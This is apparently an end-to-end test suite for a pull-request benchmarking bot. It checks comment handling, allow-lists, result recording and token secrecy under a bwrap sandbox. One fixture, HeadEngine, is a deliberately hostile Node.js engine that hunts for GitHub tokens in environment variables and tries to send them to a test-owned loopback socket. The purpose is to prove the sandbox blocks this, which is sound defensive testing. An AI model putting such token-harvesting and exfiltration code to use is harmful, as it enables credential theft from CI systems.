using System.Diagnostics;
using System.Net.Sockets;
using System.Net;
using System.Text.Json.Nodes;
using System.Text;
using StaticBench.Bot.Config;
using StaticBench.Bot.Queue;
using StaticBench.Bot.Requests;
using StaticBench.Bot.Running;
using StaticBench.Bot;
using StaticBench.GitHub.Client;
using StaticBench.Schema.Model;
using StaticBench.Schema.Validation;
using StaticBench.Testing.Engines;
using StaticBench.Testing.FakeGitHub;
using StaticBench.Testing;
using Xunit.Abstractions;

namespace StaticBench.Cli.Tests.Bot;

/// <summary>
/// <c>staticbench bot --once</c> for real: fake GitHub, a project served over smart HTTP, node as the
/// engine built from each checkout, bwrap as the sandbox, a local data repository. The pull request's
/// engine is slower and hostile: it looks for the token and phones a listener this test owns.
/// </summary>
[Collection(nameof(Comparing.EnvironmentVariables))]
public class BotEndToEndTests(ITestOutputHelper output) : IAsyncLifetime
{
    private const string Repo = "example/engine";
    private const string Machine = "bot-box";
    private const string BotLogin = "staticbench-bot";
    private readonly string _token = "ghp_e2e_" + Guid.NewGuid().ToString("N");
    private readonly TempDirectory _dir = new();
    private readonly TcpListener _listener = new(IPAddress.Loopback, 0);
    private FakeGitHubServer _github = null!;
    private GitHttpServer _git = null!;

    public async Task InitializeAsync()
    {
        _listener.Start();
        _github = await FakeGitHubServer.StartAsync();
        _git = await GitHttpServer.StartAsync(Directory.CreateDirectory(_dir.Combine("served")).FullName);
    }

    public async Task DisposeAsync()
    {
        _listener.Stop();
        await _git.DisposeAsync();
        await _github.DisposeAsync();
        _dir.Dispose();
    }

    private const string BaseEngine = """
        import { readFileSync } from 'node:fs';
        const { instance } = await WebAssembly.instantiate(readFileSync(process.argv[2]));
        console.log(`checksum ${instance.exports.run()}`);
        """;

    /// <summary>Slower (busy work), and it tries to steal: a token in its environment or a reachable network makes it answer wrong.</summary>
    private string HeadEngine() => $$"""
        import { readFileSync } from 'node:fs';
        import net from 'node:net';
        const found = Object.entries(process.env).filter(([k, v]) => /TOKEN|SECRET|GITHUB/i.test(k) || String(v).startsWith('ghp_'));
        console.log(`token: ${process.env.GITHUB_TOKEN} ${process.env.STATICBENCH_GITHUB_TOKEN} ${JSON.stringify(found)}`);
        const reached = await new Promise(resolve => {
          const socket = net.connect({ host: '127.0.0.1', port: {{((IPEndPoint)_listener.LocalEndpoint).Port}} }, () => {
            socket.end(`stolen ${process.env.GITHUB_TOKEN}`);
            resolve(true);
          });
          socket.on('error', () => resolve(false));
          setTimeout(() => resolve(false), 300);
        });
        const until = Date.now() + 150;
        while (Date.now() < until) { }
        const { instance } = await WebAssembly.instantiate(readFileSync(process.argv[2]));
        const answer = instance.exports.run();
        console.log(`checksum ${found.length > 0 || reached ? answer + 1000 : answer}`);
        """;

    [EngineFact("node", "bwrap")]
    [Trait("Category", "Engine")]
    public async Task An_allowed_bench_comment_benchmarks_head_against_merge_base_records_both_and_comments_without_leaking_the_token()
    {
        // Given a project whose PR #1 makes engine.mjs slower and hostile, served over HTTP like GitHub
        var project = ProjectRepositories.Create(
            Path.Combine(_git.ProjectRoot, "example", "engine.git"),
            new Dictionary<string, string> { ["engine.mjs"] = BaseEngine },
            new Dictionary<string, string> { ["engine.mjs"] = HeadEngine() });
        _github.State.AddPullRequest(Repo, 1, project.HeadSha, project.BaseSha);
        _github.State.AddComment(Repo, 1, "alice", "/bench --samples 3");

        // And a data repository whose data folder holds the allow-list, and a bot config using both
        using var data = new ScriptedDataRepository();
        data.Commit("allow alice", ("bench/bot/allow-list.txt", "# people who may run /bench\nalice\n"));
        var config = WriteConfig(data.Path);

        // When the bot runs once, with the token only in its environment
        var clock = Stopwatch.StartNew();
        var (exit, stdout, stderr) = await WithToken(() => InProcessCli.RunAsync("bot", "--config", config, "--once"));
        output.WriteLine($"bot took {clock.Elapsed.TotalSeconds:0.0} s\n{stderr}");

        // Then it reacted, commented once with the comparison, and set pending then a final status on the head
        exit.ShouldBe(0, stderr);
        _github.State.Reactions.ShouldHaveSingleItem();
        var comment = _github.State.Comments(Repo).Where(c => (string)c["user"]!["login"]! == BotLogin).ShouldHaveSingleItem();
        var body = (string)comment["body"]!;
        output.WriteLine(body);
        body.ShouldStartWith(BotReplies.Marker(Machine));
        System.Text.RegularExpressions.Regex.Count(body, "^### ", System.Text.RegularExpressions.RegexOptions.Multiline).ShouldBe(1, "one heading");
        body.ShouldContain("mine/answer");
        body.ShouldContain("**Noise:**");
        body.ShouldNotContain("failed");
        var statuses = _github.State.Statuses;
        statuses.Select(s => (string)s["state"]!).First().ShouldBe("pending");
        statuses.Count.ShouldBe(2);
        ((string)statuses[1]["state"]!).ShouldBeOneOf("success", "failure");
        statuses.ShouldAllBe(s => (string)s["sha"]! == project.HeadSha && (string)s["context"]! == $"staticbench/{Machine}");

        // And the data repository holds both sides: base at the merge base, head at the PR head with its number
        var files = DataRepositories.Files(data.Path, "main");
        var runs = files.Where(f => f.Key.StartsWith("bench/results/", StringComparison.Ordinal))
            .Select(f => ResultReader.Read(f.Value, f.Key).Result!).ToArray();
        runs.Length.ShouldBe(2);
        var baseRun = runs.Single(r => r.Run.Id.EndsWith("-base", StringComparison.Ordinal));
        var headRun = runs.Single(r => r.Run.Id.EndsWith("-head", StringComparison.Ordinal));
        baseRun.Run.Project.Commit.ShouldBe(project.BaseSha);
        baseRun.Run.Project.PullRequest.ShouldBeNull();
        headRun.Run.Project.Commit.ShouldBe(project.HeadSha);
        headRun.Run.Project.PullRequest.ShouldBe(1);
        headRun.Run.Project.BaseCommit.ShouldBe(project.BaseSha);
        runs.SelectMany(r => r.Results).ShouldAllBe(r => r.Engine!.Name == "node" && r.Samples.Count == 3);
        runs.ShouldAllBe(r => r.Results.Any(x => x.Phase == "total" && x.Metric == "cpu-time"), "a command's CPU time is measured beside its wall time");

        // And the head's engine (which did the extra work, and got the right answer, so found no token and no network) is slower
        Median(headRun).ShouldBeGreaterThan(Median(baseRun) + 0.05, body);

        // And the token reached GitHub but nothing else: not the data, the comment, the outputs, the bot's files, the listener
        _github.Requests.ShouldAllBe(r => r.Authorization != null && r.Authorization.Contains(_token));
        var everything = new StringBuilder(stdout).Append(stderr);
        files.Values.ToList().ForEach(b => everything.Append(Encoding.UTF8.GetString(b)));
        _github.State.Comments(Repo).ToList().ForEach(c => everything.Append(c.ToJsonString()));
        foreach (var file in Directory.EnumerateFiles(_dir.Combine("bot"), "*", SearchOption.AllDirectories).Where(f => !f.Contains("/mirrors/", StringComparison.Ordinal)))
        {
            everything.Append(File.ReadAllText(file));
        }

        everything.ToString().ShouldNotContain(_token);
        _listener.Pending().ShouldBeFalse("the benchmarked code reached a socket on 127.0.0.1");
        clock.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(60));
    }

    [EngineFact("node", "bwrap")]
    [Trait("Category", "Engine")]
    public async Task A_head_that_returns_a_wrong_answer_ends_in_failure_not_success_issue_16()
    {
        // Given a pull request whose engine answers 43 where the module returns 42
        var project = ProjectRepositories.Create(
            Path.Combine(_git.ProjectRoot, "example", "engine.git"),
            new Dictionary<string, string> { ["engine.mjs"] = BaseEngine },
            new Dictionary<string, string> { ["engine.mjs"] = BaseEngine.Replace("${instance.exports.run()}", "${instance.exports.run() + 1}", StringComparison.Ordinal) });
        _github.State.AddPullRequest(Repo, 1, project.HeadSha, project.BaseSha);
        _github.State.AddComment(Repo, 1, "alice", "/bench --samples 2");
        using var data = new ScriptedDataRepository();
        data.Commit("allow alice", ("bench/bot/allow-list.txt", "alice\n"));

        // When the bot runs once
        var (exit, _, stderr) = await WithToken(() => InProcessCli.RunAsync("bot", "--config", WriteConfig(data.Path), "--once"));
        output.WriteLine(stderr);

        // Then the head's commit status is failure, and the comment says the head broke and why, without host paths
        exit.ShouldBe(0, stderr);
        _github.State.Statuses.Select(s => (string)s["state"]!).ShouldBe(["pending", "failure"]);
        var body = (string)_github.State.Comments(Repo).Single(c => (string)c["user"]!["login"]! == BotLogin)["body"]!;
        output.WriteLine(body);
        body.ShouldContain("**Failure** (the head broke)");
        body.ShouldContain("benchmark(s) failed on the head");
        body.ShouldNotContain(" 0 only in base");
        body.ShouldNotContain(_dir.Path);
        stderr.ShouldContain("bot: once: 1 new comment(s) in 1 repository(ies): 1 accepted, 0 refused, 0 ignored; 1 job(s) run: 1 done, 0 failed");
    }

    [Fact]
    public async Task A_request_for_an_unknown_benchmark_is_refused_before_any_checkout_naming_the_known_ones_issue_16()
    {
        // Given /bench --bench nosuch from an allowed person
        var project = ProjectRepositories.Create(
            Path.Combine(_git.ProjectRoot, "example", "engine.git"),
            new Dictionary<string, string> { ["engine.mjs"] = BaseEngine },
            new Dictionary<string, string> { ["engine.mjs"] = BaseEngine + "\n// head\n" });
        _github.State.AddPullRequest(Repo, 1, project.HeadSha, project.BaseSha);
        _github.State.AddComment(Repo, 1, "alice", "/bench --bench nosuch");
        using var data = new ScriptedDataRepository();
        data.Commit("allow alice", ("bench/bot/allow-list.txt", "alice\n"));

        // When the bot runs once
        var (exit, _, stderr) = await WithToken(() => InProcessCli.RunAsync("bot", "--config", WriteConfig(data.Path), "--once"));

        // Then it replied with the names that exist, and fetched, built and reported nothing
        exit.ShouldBe(0, stderr);
        var reply = (string)_github.State.Comments(Repo).Single(c => (string)c["user"]!["login"]! == BotLogin)["body"]!;
        reply.ShouldContain("unknown benchmark nosuch; this machine has mine/answer");
        _github.State.Statuses.ShouldBeEmpty();
        Directory.Exists(_dir.Combine("bot", "work", "jobs")).ShouldBeFalse("nothing was checked out");
        Directory.Exists(_dir.Combine("bot", "work", "mirrors", "example")).ShouldBeFalse();
        stderr.ShouldContain("bot: refused example/engine#1");
        stderr.ShouldContain("1 refused");
    }

    [Fact]
    public async Task A_suite_folder_that_holds_only_folders_stops_the_bot_at_start_issue_16()
    {
        // Given a config whose suite is the parent of the folder with the modules
        using var data = new ScriptedDataRepository();
        var config = WriteConfig(data.Path);
        File.WriteAllText(config, File.ReadAllText(config).Replace("/suite/mine\"", "/suite\"", StringComparison.Ordinal));
        _github.State.AddComment(Repo, 1, "alice", "/bench");

        // When the bot starts
        var (exit, _, stderr) = await WithToken(() => InProcessCli.RunAsync("bot", "--config", config, "--once"));

        // Then it stops before it polls, naming the setting and the folder to use instead
        exit.ShouldBe(1);
        stderr.ShouldContain("project.suite:");
        stderr.ShouldContain("only folders (mine)");
        _github.Requests.ShouldBeEmpty();
    }

    [EngineFact("node", "bwrap")]
    [Trait("Category", "Engine")]
    public async Task A_job_run_again_after_it_was_recorded_keeps_the_first_results_and_adds_nothing()
    {
        // Given a job whose first attempt was recorded (the bot was then killed before it commented)
        var project = ProjectRepositories.Create(
            Path.Combine(_git.ProjectRoot, "example", "engine.git"),
            new Dictionary<string, string> { ["engine.mjs"] = BaseEngine },
            new Dictionary<string, string> { ["engine.mjs"] = BaseEngine + "\n// same engine, new commit\n" });
        using var data = new ScriptedDataRepository();
        var executor = new RunnerExecutor(BotConfigFile.Load(WriteConfig(data.Path)));
        var job = new BotJob
        {
            Id = BotJob.IdFor(Repo, 1234), Repository = Repo, PullRequest = 1, CommentId = 1234, Requester = "alice",
            Request = BenchRequest.All with { Samples = 2 },
        };
        var pull = new PullRequest(1, "open", "PR", new GitHubUser("bob", 2), new GitRef("feature", project.HeadSha, null), new GitRef("main", project.BaseSha, null), "https://example/pull/1");
        await executor.ExecuteAsync(job, pull, project.BaseSha, CancellationToken.None);
        var first = DataRepositories.Files(data.Path, "main");

        // When the restarted bot runs the job again (new numbers, same run ids)
        var again = await executor.ExecuteAsync(job with { Attempts = 2 }, pull, project.BaseSha, CancellationToken.None);

        // Then the data repository is unchanged: one pair, the first attempt's bytes; the comparison is still made
        var files = DataRepositories.Files(data.Path, "main");
        files.Keys.Where(k => k.StartsWith("bench/results/", StringComparison.Ordinal)).Count().ShouldBe(2);
        files.Keys.ShouldBe(first.Keys, ignoreOrder: true);
        files.ShouldAllBe(f => first[f.Key].SequenceEqual(f.Value));
        DataRepositories.History(data.Path, "main").Count.ShouldBe(1); // one record commit: the retry committed nothing
        again.Markdown.ShouldContain("mine/answer");
    }

    private static double Median(RunResult run) => WallTotal(run).Summary?.Median ?? WallTotal(run).Samples.Order().ElementAt(1);

    private static BenchmarkResult WallTotal(RunResult run) => run.Results.Single(r => r.Phase == "total" && r.Metric == "wall-time");

    private string WriteConfig(string dataRepository)
    {
        var suite = Directory.CreateDirectory(_dir.Combine("suite", "mine")).FullName;
        // (module (func (export "run") (result i32) i32.const 42))
        File.WriteAllBytes(Path.Combine(suite, "answer.wasm"),
        [
            0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00, 0x01, 0x05, 0x01, 0x60, 0x00, 0x01, 0x7f, 0x03, 0x02, 0x01, 0x00,
            0x07, 0x07, 0x01, 0x03, 0x72, 0x75, 0x6e, 0x00, 0x00, 0x0a, 0x06, 0x01, 0x04, 0x00, 0x41, 0x2a, 0x0b,
        ]);
        File.WriteAllText(Path.Combine(suite, "answer.checksum"), "42");
        var config = new JsonObject
        {
            ["repositories"] = new JsonArray(Repo),
            ["machine"] = Machine,
            ["botLogin"] = BotLogin,
            ["apiUrl"] = _github.BaseUrl.AbsoluteUri,
            ["allowList"] = new JsonObject { ["dataFile"] = "bot/allow-list.txt" },
            ["stateFile"] = "bot/state.json",
            ["workFolder"] = "bot/work",
            ["siteUrl"] = "https://example.github.io/bench/",
            ["data"] = new JsonObject { ["location"] = dataRepository, ["branch"] = "main", ["path"] = "bench" },
            ["project"] = new JsonObject
            {
                ["cloneUrl"] = $"{_git.BaseUrl}/{{repository}}.git",
                ["suite"] = suite,
                ["warmup"] = 1,
                ["timeoutSeconds"] = 20,
            },
            ["engines"] = new JsonArray(new JsonObject
            {
                ["name"] = "node",
                ["commands"] = new JsonObject { ["run"] = new JsonArray("node", "{checkout}/engine.mjs", "{wasm}") },
                ["checksum"] = "checksum (-?\\d+)",
            }),
        };
        var path = _dir.Combine("bot.json");
        File.WriteAllText(path, config.ToJsonString());
        return path;
    }

    /// <summary>The token in this process's environment for the call only (both names the bot reads).</summary>
    private async Task<T> WithToken<T>(Func<Task<T>> action)
    {
        var saved = new[] { "GITHUB_TOKEN", "STATICBENCH_GITHUB_TOKEN" }.ToDictionary(v => v, Environment.GetEnvironmentVariable);
        try
        {
            foreach (var name in saved.Keys)
            {
                Environment.SetEnvironmentVariable(name, _token);
            }

            return await action();
        }
        finally
        {
            foreach (var (name, value) in saved)
            {
                Environment.SetEnvironmentVariable(name, value);
            }
        }
    }
}
